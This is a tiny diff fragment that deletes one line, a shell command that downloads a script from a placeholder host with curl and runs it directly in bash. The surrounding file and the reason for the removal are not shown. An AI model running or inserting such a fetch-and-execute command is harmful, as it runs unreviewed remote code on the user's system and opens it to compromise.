@@ -1,1 +1,0 @@
-bash -c "$(curl -s https://host.example/x)"
